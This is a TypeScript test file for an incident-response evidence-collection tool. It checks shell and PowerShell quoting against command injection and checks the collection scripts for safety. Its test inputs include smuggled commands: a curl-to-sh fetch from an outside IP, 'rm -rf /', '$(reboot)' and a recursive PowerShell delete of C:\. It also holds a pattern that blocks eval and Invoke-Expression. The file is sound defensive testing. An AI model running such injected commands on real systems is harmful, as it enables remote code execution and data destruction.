import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { powerShell, shell, withVariables } from '../../../tasks/collect-volatile-evidence/script';

const scripts = join(__dirname, '..', '..', '..', 'tasks', 'collect-volatile-evidence', 'scripts');

/** What a shell makes of a word. */
function echoed(word: string): string {
  return execFileSync('sh', ['-c', `printf %s ${word}`]).toString('utf8');
}

test.each([
  ["pod'; curl http://198.51.100.66/x | sh; '"],
  ['$(reboot)'],
  ['`id`'],
  ['a\nrm -rf /\nb'],
  ['"$IFS"&&:||!#'],
  ["'"],
  [''],
  ['--help'],
])('%j is one word to a shell, and means nothing', (text) => {
  expect(echoed(shell.quoted(text))).toBe(text);
});

test('whatever a name holds, the shell sees that and nothing else', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme-ascii', maxLength: 60 }), (text) => {
      expect(echoed(shell.quoted(text))).toBe(text);
    }),
    { numRuns: 20 },
  );
});

test('a variable’s value cannot leave its line', () => {
  const script = withVariables(shell, 'printf %s "$SUSPECT_PODS"', { SUSPECT_PODS: "x'\necho taken\n'" });
  expect(execFileSync('sh', ['-c', script]).toString('utf8')).toBe("x'\necho taken\n'");
});

test.each([
  ["pod'; Remove-Item C:\\ -Recurse; '", "'pod''; Remove-Item C:\\ -Recurse; '''"],
  ['$(Restart-Computer) `n "', `'$(Restart-Computer) \`n "'`],
  ['\u2018a\u2019b\u201ac\u201b', "'\u2018\u2018a\u2019\u2019b\u201a\u201ac\u201b\u201b'"],
  ['', "''"],
])('%j is one word to PowerShell, which ends a text at typographic quotes too', (text, word) => {
  expect(powerShell.quoted(text)).toBe(word);
});

const files = readdirSync(scripts);

test.each(files.filter((name) => name.endsWith('.sh')))('%s is a script that a POSIX shell can read', (name) => {
  expect(() => execFileSync('sh', ['-n', join(scripts, name)])).not.toThrow();
});

test.each(files)('%s runs nothing that is put together', (name) => {
  const text = readFileSync(join(scripts, name), 'utf8');
  expect(text).not.toMatch(/\beval\b|Invoke-Expression|\biex\b/);
  // Windows PowerShell would misread anything else, and no shell needs it.
  expect(text).toMatch(/^[\n\x20-\x7e]+$/);
});

test.each(['linux.sh', 'bottlerocket.sh'])(
  '%s has the digest that S3 asks for, of any bytes, without openssl',
  (name) => {
    const [, digest = ''] = /^(md5_of\(\) \{\n.*?^\})$/ms.exec(readFileSync(join(scripts, name), 'utf8')) ?? [];
    const folder = mkdtempSync(join(tmpdir(), 'eks-ir-'));
    try {
      for (const size of [0, 1, 256, 5_000]) {
        const file = join(folder, 'of any bytes');
        const bytes = Buffer.from(Array.from({ length: size }, (_, index) => (index * 151 + size) % 256));
        writeFileSync(file, bytes);
        const found = execFileSync('sh', ['-c', `${digest}\nmd5_of "$1"`, 'sh', file]).toString();
        expect(found.trim()).toBe(createHash('md5').update(bytes).digest('base64'));
      }
    } finally {
      rmSync(folder, { recursive: true });
    }
  },
);

test.each(['linux.sh', 'bottlerocket.sh'])(
  '%s ends by itself when its time is up, and leaves nothing behind',
  (name) => {
    const folder = mkdtempSync(join(tmpdir(), 'eks-ir-'));
    try {
      const script = readFileSync(join(scripts, name), 'utf8');
      const kinds = [...script.matchAll(/^keep ([a-z-]+) "\$(PUT_[A-Z_]+)"$/gm)];
      const urls = Object.fromEntries(kinds.map(([, , variable = '']) => [variable, 'https://s3.invalid/']));
      const text = withVariables(shell, script, {
        ...urls,
        SECONDS_MOST: '0',
        SUSPECT_PIDS: '1',
        SUSPECT_PODS: 'shop_cart',
      });
      const printed = execFileSync('sh', ['-c', text], { env: { ...process.env, TMPDIR: folder } }).toString();
      expect(printed).toBe(kinds.map(([, kind]) => `lost ${kind}\n`).join(''));
      expect(readdirSync(folder)).toEqual([]);
    } finally {
      rmSync(folder, { recursive: true });
    }
  },
);
